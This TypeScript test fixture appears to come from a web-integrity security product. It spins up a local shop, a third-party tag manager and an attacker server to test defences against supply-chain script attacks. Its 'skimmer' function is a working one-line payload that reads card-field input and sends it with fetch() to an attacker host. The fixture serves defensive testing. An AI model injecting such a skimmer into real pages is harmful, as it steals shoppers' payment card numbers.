import { once } from 'node:events'
import { createServer, type IncomingMessage, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { WebhookEvent } from '@candor/server/integrity/containment/webhook.ts'
import { signatureHeader, signDelivery } from '@candor/server/integrity/containment/webhook-signature.ts'
import { openTlsEnd } from './tls-end.ts'

/** A tenant's web shop, its tag manager and the attacker's host: origins of their own on this machine. */
export interface AttackedShop {
  /** `https://localhost:…`, registered as the tenant's site. */
  origin: string
  /**
   * The same pages as they were built before: no header, no pin, and what the vendor serves runs in the page itself. What
   * does not work here was no attack.
   */
  oldOrigin: string
  /** Where the tag manager serves its script from: a third party, as they are. */
  tagManagerOrigin: string
  /** Another host to the browser, where stolen data goes. */
  attacker: string
  /** Where the tenant's own systems hear of alarms. */
  webhook: string
  /** What the shop puts into each page's head: the tag of the widget. */
  tag: string
  oldTag: string
  /** Headers of its pages. */
  headers: Record<string, string>
  /** The tag manager's script as this visitor gets it. */
  tagManager: (asked: { page: string; userAgent: string }) => string
  /** Whether the pages carry the tag manager's tag; the old ones always do. */
  carriesTagManager: boolean
  /** What deliveries to the webhook have to be signed with. */
  webhookSecret: string
  /** Of each delivery that was rightly signed. */
  onWebhook: (event: WebhookEvent) => void
  /** What reached the attacker. */
  stolen: { at: number; url: string; body: string }[]
  close(): Promise<void>
}

/** Typed into the payment page by every visitor; from a range that card networks keep for tests. */
export const typedCard = '4111111111111111'

/** Reads what is typed into the card field and sends it away at every key: the whole of such an attack in one line. */
export function skimmer(attacker: string): string {
  const to = JSON.stringify(`${attacker}/?d=`)
  return (
    `;document.addEventListener('input',e=>{if(/card/.test(e.target.name||''))` +
    `fetch(${to}+encodeURIComponent(e.target.value),{mode:'no-cors'}).catch(()=>0)},true);`
  )
}

export const harmless = 'document.documentElement.dataset.tags = "on"'

export async function openAttackedShop(now: () => number): Promise<AttackedShop> {
  const attacker = createServer((request, response) => {
    void textOf(request).then((body) => {
      shop.stolen.push({ at: now(), url: request.url!, body })
      response.writeHead(204, { 'access-control-allow-origin': '*' }).end()
    })
  })
  const tagManager = createServer((request, response) => {
    const { searchParams } = new URL(request.url!, 'http://tags')
    const userAgent = request.headers['user-agent'] ?? ''
    response.writeHead(200, {
      'content-type': 'text/javascript',
      'cache-control': 'no-store',
      'access-control-allow-origin': '*',
    })
    response.end(shop.tagManager({ page: searchParams.get('page') ?? '', userAgent }))
  })
  const site = createServer((request, response) => {
    const { pathname } = new URL(request.url!, 'http://shop')
    if (pathname === '/webhook') {
      void hear(request).then((isSigned) => response.writeHead(isSigned ? 204 : 403).end())
      return
    }
    const isOld = pathname.startsWith('/old/')
    const page = mainOf(isOld ? pathname.slice('/old'.length) : pathname)
    if (page === null) {
      response.writeHead(404).end()
      return
    }
    response.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'no-store',
      ...(isOld ? {} : shop.headers),
    })
    const tags = isOld || shop.carriesTagManager ? tagOf(pathname) : ''
    response.end(
      `<!doctype html><html lang="en"><meta charset="utf-8"><title>Shop</title>${tags}${isOld ? shop.oldTag : shop.tag}<main>${page}</main></html>`,
    )
  })
  const tagOf = (page: string): string =>
    `<script src="${shop.tagManagerOrigin}/tags.js?page=${page}" crossorigin></script>`

  async function hear(request: IncomingMessage): Promise<boolean> {
    const body = await textOf(request)
    const given = String(request.headers[signatureHeader.toLowerCase()] ?? '')
    const seconds = Number(/^t=(\d{1,12}),/.exec(given)?.[1])
    if (given !== signDelivery(shop.webhookSecret, seconds * 1_000, body)) return false
    shop.onWebhook(JSON.parse(body) as WebhookEvent)
    return true
  }

  const servers = [attacker, tagManager, site]
  await Promise.all(servers.map(listening))
  const end = await openTlsEnd()
  end.inFrontOf(urlOf(site))
  const shop: AttackedShop = {
    origin: end.url,
    oldOrigin: `${urlOf(site)}/old`,
    tagManagerOrigin: urlOf(tagManager),
    attacker: urlOf(attacker),
    webhook: `${urlOf(site)}/webhook`,
    tag: '',
    oldTag: '',
    headers: {},
    tagManager: () => harmless,
    carriesTagManager: true,
    webhookSecret: '',
    onWebhook: () => undefined,
    stolen: [],
    async close() {
      await end.close()
      for (const server of servers) {
        server.closeAllConnections()
        await new Promise((resolve) => server.close(resolve))
      }
    },
  }
  return shop
}

/** Whether the whole card number reached the attacker. */
export function cardStolen(shop: AttackedShop): boolean {
  return shop.stolen.some(({ url, body }) => decodeURIComponent(url + body).includes(typedCard))
}

/** Every address below the checkout is a payment page. */
function mainOf(pathname: string): string | null {
  if (pathname === '/') return '<h1>Boots and coats</h1><p><a href="/checkout">To the checkout</a>'
  if (pathname === '/product') return '<h1>Walking boots</h1><p>Seven sizes.'
  return /^\/checkout(\/|$)/.test(pathname) ? checkout : null
}

const checkout =
  '<h1>Checkout</h1><form><label>Card number <input name="card-number" autocomplete="cc-number"></label><label>Security code <input name="cvc"></label></form>'

async function listening(server: Server): Promise<void> {
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
}

const urlOf = (server: Server): string => `http://127.0.0.1:${(server.address() as AddressInfo).port}`

async function textOf(request: IncomingMessage): Promise<string> {
  let text = ''
  for await (const chunk of request.setEncoding('utf8')) text += chunk as string
  return text
}
